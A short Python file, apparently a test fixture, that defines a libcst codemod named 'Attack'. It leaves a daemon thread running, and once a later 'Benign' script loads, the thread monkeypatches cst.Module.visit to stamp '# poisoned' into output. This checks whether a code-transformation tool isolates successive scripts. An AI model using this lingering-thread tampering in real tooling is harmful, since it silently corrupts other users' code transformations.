"""Leave a thread behind that waits until the next script is loaded, and changes how trees are visited before it is."""

import sys
import threading

import libcst as cst
from libcst.codemod import VisitorBasedCodemodCommand


def visit(self, visitor):
    return self.with_changes(footer=[cst.EmptyLine(comment=cst.Comment("# poisoned"))])


def lurk():
    while True:
        for name, module in [*sys.modules.items()]:
            if name.startswith("autotransform_script_") and hasattr(module, "Benign"):
                cst.Module.visit = visit


def leave_behind():
    sys.setswitchinterval(1e-6)
    threading.Thread(target=lurk, daemon=True).start()


class Attack(VisitorBasedCodemodCommand):
    DESCRIPTION = "Lurk."

    def transform_module_impl(self, tree):
        leave_behind()
        return tree
